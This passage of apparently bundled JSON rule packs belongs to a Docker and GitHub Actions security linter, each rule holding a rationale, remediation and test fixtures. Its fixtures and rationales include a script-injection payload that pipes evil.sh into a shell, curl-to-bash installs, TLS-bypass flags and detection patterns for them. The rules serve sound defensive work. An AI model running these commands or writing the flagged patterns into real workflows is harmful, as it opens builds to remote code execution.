#12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review. If every job declares its own `permissions:`, suppress this finding with that reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"paramSchemas":{"secretExpression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A secret or token expression anywhere in the build arguments."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger builds or runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}},"schema":{"properties":{"builds":false,"composeFiles":false}},"message":"This step builds or runs the pull request\'s code (`docker build`, build-push-action, `docker compose`) in a workflow started by `pull_request_target` or `workflow_run`, which has the base repository\'s secrets and a write token: any contributor can run code with them. Build untrusted code in a `pull_request` workflow, and pass only its results to the privileged one.","rationale":"`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not supposed to run the pull request\'s code. Checking out the head of the pull request and then building a Dockerfile (whose RUN steps execute) or bringing up a Compose file hands that access to whoever opened the pull request (\\"pwn request\\"). The job\'s earlier checkout of the head is what makes this step dangerous; the finding is on the step that executes the code.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: docker build -t app:pr .\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a run script","severity":"high","subject":"workflow.step","schema":{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}},"message":"This `run:` script expands attacker-controlled values ({{subject.untrustedExpressions}}) straight into shell code, so whoever writes that title, branch name or comment can run commands here, with the job\'s token and secrets. Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `\\"$TITLE\\"` in the script.","rationale":"GitHub replaces `${{ }}` expressions before the shell starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.issue.title }}\\n        run: echo \\"New issue $TITLE (#${{ github.event.issue.number }})\\"\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
+  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 /app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"paramSchemas":{"insecureMode":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Octal modes that let everyone write (the last digit has the write bit, without the sticky bit that makes /tmp-style directories safe) or that set setuid/setgid; symbolic `o+w`, `a+w`, `a=rwx`, `u+s`, `g+s`."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN [\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"paramSchemas":{"downloaders":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Programs that download a URL (command names, as the command subject gives them)."},"shells":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Interpreters that run what they read on standard input (or in `-c \\"$(\u2026)\\"`)."},"substitutedDownload":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An argument that runs a download\'s output: `sh -c \\"$(curl \u2026)\\"`, `eval \\"$(wget -O- \u2026)\\"`."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2},{"line":4,"column":1},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 true\\n","expect":[{"line":7,"column":11},{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"paramSchemas":{"disablingOptions":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Security options that switch seccomp, AppArmor or SELinux confinement off. Matched against `security_opt` entries, which the container subject normalizes to `key=value` (`seccomp:unconfined` becomes `seccomp=unconfined`)."}},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9},{"line":8,"column":9}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    